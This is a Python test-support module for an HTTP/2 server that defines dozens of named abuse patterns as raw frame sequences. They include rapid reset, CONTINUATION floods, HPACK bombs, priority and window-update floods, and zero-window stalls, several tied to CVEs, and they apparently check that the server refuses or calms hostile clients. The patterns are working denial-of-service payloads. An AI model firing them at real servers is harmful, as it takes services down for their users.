"""What hostile HTTP/2 clients send, by name; `http2_attack` sends it, here for moments, in `benchmarks/fault` for long.

An abuse is written as waves: pieces that one connection sends behind its preface, one after the other, for as long as
it lives. Header blocks use the static table, so that a request costs its sender as little as it can.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count

from tests.support.http2_frames import (
    CONTINUATION,
    DATA,
    PREFACE,
    PRIORITY,
    PRIORITY_UPDATE,
    Code,
    Setting,
    continuation,
    data,
    frame,
    goaway,
    headers,
    integer,
    literal,
    ping,
    priority,
    reset,
    settings,
    window_update,
)

__all__ = ["ABUSES", "Abuse", "get", "post"]

#: So many frames are sent at a time.
AT_ONCE = 200
MOST = (1 << 31) - 1
HOST = b"\x01\x09localhost"
Waves = Callable[[], Iterator[bytes]]


@dataclass(frozen=True, slots=True)
class Abuse:
    """Hold one abuse. `codes` are those with which the server may say that it has enough; empty: it never does.

    `is_calmed` says that it must, and soon; others may go on for long before that.
    """

    name: str
    says: str
    waves: Waves
    codes: tuple[int, ...] = (Code.ENHANCE_YOUR_CALM,)
    settings: tuple[tuple[int, int], ...] = ()
    is_reading: bool = True
    connections: int = 4
    #: So many bytes may be held for one connection; most of it is what the kernel has not been asked for yet.
    bytes_each: int = 1 << 20
    is_calmed: bool = True
    #: Each connection is left as soon as all is sent, and another one made.
    is_leaving: bool = False
    preface: bytes = PREFACE


def get(path: bytes = b"/") -> bytes:
    """Write the block of a GET."""
    return b"\x82\x86" + _path(path) + HOST


def post(path: bytes = b"/digest") -> bytes:
    """Write the block of a POST."""
    return b"\x83\x86" + _path(path) + HOST


def _path(path: bytes) -> bytes:
    return b"\x84" if path == b"/" else b"\x04" + integer(len(path), 7) + path


def _ids() -> Iterator[int]:
    return count(1, 2)


def _per_stream(write: Callable[[int], bytes]) -> Waves:
    """Send something on one new stream after the other, until the identifiers end."""

    def waves() -> Iterator[bytes]:
        ids = _ids()
        while True:
            yield b"".join(write(stream) for stream, _ in zip(ids, range(AT_ONCE), strict=False))

    return waves


def _over(piece: bytes, opening: bytes = b"") -> Waves:
    """Send an opening, then the same over and over."""

    def waves() -> Iterator[bytes]:
        if opening:
            yield opening
        wave = piece * max(1, min(AT_ONCE, 262144 // len(piece)))
        while True:
            yield wave

    return waves


def _once(*pieces: bytes) -> Waves:
    """Send something and then nothing more."""
    return lambda: iter(pieces)


def _streams(block: bytes, number: int = 100, *, end: bool = True) -> bytes:
    return b"".join(headers(stream, block, end=end) for stream in range(1, 2 * number, 2))


# --- resets -------------------------------------------------------------------------------------------------


def _provoke(name: str, says: str, trigger: Callable[[int], bytes], block: bytes = b"", *, end: bool = False) -> Abuse:
    """Make the server reset one stream after the other (CVE-2025-8671)."""
    opening = block or post(b"/stuck")
    return Abuse(
        f"made-you-reset-{name}",
        f"the server is made to reset streams: {says}",
        _per_stream(lambda stream: headers(stream, opening, end=end) + trigger(stream)),
        # What is an error of a stream may be taken for one of the connection.
        (
            Code.ENHANCE_YOUR_CALM,
            Code.STREAM_CLOSED,
            Code.PROTOCOL_ERROR,
            Code.FLOW_CONTROL_ERROR,
            Code.FRAME_SIZE_ERROR,
        ),
    )


_MALFORMED = get() + literal(b"upgrade", b"x")
#: Extended CONNECT (RFC 8441).
_SOCKET = literal(b":method", b"CONNECT") + literal(b":protocol", b"websocket") + b"\x86\x84" + HOST

RESETS = (
    Abuse(
        "rapid-reset",
        "requests that are reset at once (CVE-2023-44487)",
        _per_stream(lambda stream: headers(stream, get()) + reset(stream)),
    ),
    Abuse(
        "rapid-reset-stuck",
        "the same to an application that never ends by itself",
        _per_stream(lambda stream: headers(stream, get(b"/stuck")) + reset(stream)),
    ),
    Abuse(
        "rapid-reset-websocket",
        "WebSockets that are opened and reset at once",
        _per_stream(lambda stream: headers(stream, _SOCKET, end=False) + reset(stream)),
    ),
    _provoke("credit", "WINDOW_UPDATE of 0", lambda stream: window_update(stream, 0)),
    _provoke("overflow", "a window above 2^31-1", lambda stream: window_update(stream, MOST)),
    _provoke("dependency", "PRIORITY that depends on itself", lambda stream: priority(stream, stream)),
    _provoke("size", "PRIORITY of four bytes", lambda stream: frame(PRIORITY, 0, stream, bytes(4))),
    _provoke("data", "DATA behind END_STREAM", lambda stream: data(stream, b"x"), end=True),
    _provoke("headers", "HEADERS behind END_STREAM", lambda stream: headers(stream, get()), end=True),
    _provoke("malformed", "fields of the connection", lambda stream: b"", _MALFORMED, end=True),
    _provoke(
        "length",
        "more DATA than content-length",
        lambda stream: data(stream, b"xx"),
        post(b"/stuck") + literal(b"content-length", b"1"),
    ),
    Abuse(
        "refused",
        "requests above the limit on streams, without end",
        _per_stream(lambda stream: headers(stream, get(b"/stuck"))),
        # Those within the limit run on until their time to take note of the end is over, and others come meanwhile.
        bytes_each=16 << 20,
    ),
)

# --- header blocks ------------------------------------------------------------------------------------------

_HALF = headers(1, get(), is_whole=False)
_SEED = literal(b"a", b"x" * 3000, 0x40)


def _bombs() -> Iterator[bytes]:
    yield headers(1, get() + _SEED)
    for stream in count(3, 2):
        yield headers(stream, get() + b"\xbe" * 16000)


def _cookies(stream: int) -> bytes:
    """Write a request of as many crumbs as there may be fields, each of them a byte once the first has come."""
    seed = literal(b"cookie", b"a=b", 0x40) if stream == 1 else b""
    return headers(stream, get(b"/stuck") + seed + b"\xbe" * (90 if stream == 1 else 91))


BLOCKS = (
    Abuse(
        "continuation-empty",
        "CONTINUATION without end and without bytes (CVE-2024-27316)",
        _over(frame(CONTINUATION, 0, 1), _HALF),
        (Code.ENHANCE_YOUR_CALM, Code.PROTOCOL_ERROR),
    ),
    Abuse(
        "continuation-full",
        "CONTINUATION without end, of 16 KiB",
        _over(continuation(1, literal(b"x", b"y" * 16000), is_last=False), _HALF),
        (Code.ENHANCE_YOUR_CALM, Code.PROTOCOL_ERROR, Code.COMPRESSION_ERROR),
    ),
    Abuse(
        "hpack-bomb",
        "blocks of 16 KiB that stand for 48 MiB (CVE-2016-6581)",
        _bombs,
        (Code.ENHANCE_YOUR_CALM, Code.COMPRESSION_ERROR),
    ),
    Abuse(
        "hpack-crumbs",
        "a hundred streams of a hundred fields of one byte, none of which ends (CVE-2026-49975)",
        lambda: iter([b"".join(_cookies(stream) for stream in range(1, 200, 2))]),
        (),
        settings=((Setting.INITIAL_WINDOW_SIZE, 0),),
        connections=20,
        bytes_each=3 << 20,
    ),
    Abuse(
        "large-lists",
        "header lists above the limit, without end",
        _per_stream(
            lambda stream: (
                headers(stream, get() + literal(b"x", b"y" * 16000), is_whole=False)
                + b"".join(
                    continuation(stream, literal(b"x", b"y" * 16000), is_last=last) for last in (False,) * 4 + (True,)
                )
            )
        ),
        # Each is answered 431, and has cost its sender more than the server.
        is_calmed=False,
    ),
    Abuse(
        "table-sizes",
        "requests that shrink the header table and fill it again",
        _per_stream(lambda stream: headers(stream, b"\x20\x3f\xe1\x1f" + get() + _SEED)),
        # Those that are more than there may be at a time are refused, and that is counted.
        is_calmed=False,
    ),
    Abuse(
        "empty-names",
        "fields without names and without values (CVE-2019-9516)",
        _per_stream(lambda stream: headers(stream, get() + literal(b"", b"") * 90)),
    ),
)

# --- frames that carry nothing ------------------------------------------------------------------------------

_OPEN = headers(1, post(), end=False)
_HALF_WINDOW = settings((Setting.INITIAL_WINDOW_SIZE, 0)) + settings((Setting.INITIAL_WINDOW_SIZE, 65535))
_FRAMES = {
    "settings": ("SETTINGS", settings(), b""),
    "settings-full": ("SETTINGS of 32 values", settings(*[(Setting.MAX_FRAME_SIZE, 16384)] * 32), b""),
    "settings-window": (
        "SETTINGS that move the windows of a hundred streams",
        settings((Setting.INITIAL_WINDOW_SIZE, 0)) + settings((Setting.INITIAL_WINDOW_SIZE, 1)),
        _streams(post(), end=False),
    ),
    "ping": ("PING", ping(), b""),
    "empty-data": ("DATA without bytes", frame(DATA, 0, 1), _OPEN),
    "padding": ("DATA of padding alone", data(1, b"", pad=200), _OPEN),
    "priority": ("PRIORITY", priority(1, 3), b""),
    "priority-idle": ("PRIORITY of streams that never come", priority(12345, 3), b""),
    "priority-update": ("PRIORITY_UPDATE", frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1"), b""),
    "credit": ("WINDOW_UPDATE of one byte", window_update(0, 1), b""),
    "credit-stream": ("WINDOW_UPDATE of one byte on a stream", window_update(1, 1), _OPEN),
    "window-negative": (
        "SETTINGS that move the windows of a hundred answers above and below nothing",
        _HALF_WINDOW,
        _streams(get(b"/endless")),
    ),
    "priority-shuffle": (
        "PRIORITY_UPDATE of a hundred answers that wait (CVE-2019-9513)",
        b"".join(
            frame(PRIORITY_UPDATE, 0, 0, stream.to_bytes(4, "big") + urgency)
            for urgency in (b"u=1", b"u=6, i")
            for stream in range(1, 200, 2)
        ),
        _streams(get(b"/endless")),
    ),
    "priority-many": (
        "PRIORITY_UPDATE of streams that never come",
        b"".join(frame(PRIORITY_UPDATE, 0, 0, stream.to_bytes(4, "big") + b"u=1") for stream in range(1, 2000, 2)),
        b"",
    ),
    "goaway": ("GOAWAY", goaway(), _OPEN),
    "unknown": ("frames that nobody knows", frame(0x77, 0, 0, b"?"), b""),
    "late-resets": ("RST_STREAM on a stream that is closed", reset(1), headers(1, get()) + reset(1)),
}
FLOODS = tuple(
    Abuse(
        f"flood-{name}",
        f"{says}, without end",
        _over(piece, opening),
        (Code.ENHANCE_YOUR_CALM, Code.FLOW_CONTROL_ERROR),
    )
    for name, (says, piece, opening) in _FRAMES.items()
)
DATA_FLOODS = (
    Abuse(
        "tiny-data",
        "a body byte by byte, without end",
        _over(data(1, b"x"), _OPEN),
        (),
    ),
    Abuse(
        "large-credit",
        "WINDOW_UPDATE of what nobody asked for, until there can be no more",
        _over(window_update(0, 256)),
        (Code.ENHANCE_YOUR_CALM, Code.FLOW_CONTROL_ERROR),
        is_calmed=False,
    ),
    Abuse(
        "overflow-connection",
        "a window of the connection above 2^31-1, on one connection after the other",
        _over(window_update(0, MOST)),
        (Code.FLOW_CONTROL_ERROR,),
    ),
)
UNREAD = tuple(
    Abuse(f"unread-{name}", f"{says}, without end, whose answers are never read", _over(piece), is_reading=False)
    for name, says, piece in (("ping", "PING", ping()), ("settings", "SETTINGS", settings()))
)

# --- windows and waiting ------------------------------------------------------------------------------------

_NO_WINDOW = ((Setting.INITIAL_WINDOW_SIZE, 0),)
_ONE_BYTE = ((Setting.INITIAL_WINDOW_SIZE, 1),)
STALLS = (
    Abuse(
        "zero-window",
        "a hundred answers without end into windows of nothing",
        _once(_streams(get(b"/fresh"))),
        (),
        settings=_NO_WINDOW,
        connections=20,
        bytes_each=3 << 20,
    ),
    Abuse(
        "unread-answers",
        "a hundred answers without end that are never read",
        _once(window_update(0, MOST - 65535) + _streams(get(b"/fresh"))),
        (),
        settings=((Setting.INITIAL_WINDOW_SIZE, MOST),),
        is_reading=False,
        connections=20,
        # A message of each application is under way, too.
        bytes_each=8 << 20,
    ),
    Abuse(
        "tiny-window",
        "a large answer byte by byte",
        _over(window_update(1, 1), headers(1, get(b"/block"))),
        settings=_ONE_BYTE,
    ),
    Abuse(
        "tiny-windows",
        "a hundred large answers byte by byte, one after the other (CVE-2019-9511)",
        _over(b"".join(window_update(stream, 1) for stream in range(1, 200, 2)), _streams(get(b"/block"))),
        settings=_ONE_BYTE,
        bytes_each=3 << 20,
    ),
    Abuse(
        "hit-and-run",
        "resets that the server is made to send, by a peer that has gone before they are read",
        _once(b"".join(headers(stream, _MALFORMED) for stream in range(1, 1900, 2))),
        is_leaving=True,
        is_calmed=False,
        # What they have sent waits for its turn, and they no longer wait for anything.
        bytes_each=8 << 20,
    ),
    Abuse(
        "half-a-preface",
        "the first bytes of a preface, and then nothing",
        _once(),
        (),
        connections=100,
        bytes_each=64 << 10,
        preface=PREFACE[:5],
    ),
    Abuse(
        "idle-streams",
        "a hundred requests whose bodies never come",
        _once(_streams(post(), end=False)),
        (),
        connections=20,
        bytes_each=1 << 20,
    ),
    Abuse(
        "half-a-head",
        "HEADERS that never end",
        _once(_HALF),
        (),
        connections=100,
        bytes_each=128 << 10,
    ),
    Abuse(
        "full-windows",
        "bodies up to the window, for an application that never reads",
        _once(
            b"".join(
                headers(stream, post(b"/stuck"), end=False) + data(stream, bytes(16384)) * 15 for stream in (1, 3, 5, 7)
            )
        ),
        (),
        connections=20,
        bytes_each=2 << 20,
    ),
)

ABUSES = {abuse.name: abuse for abuse in (*RESETS, *BLOCKS, *FLOODS, *DATA_FLOODS, *UNREAD, *STALLS)}
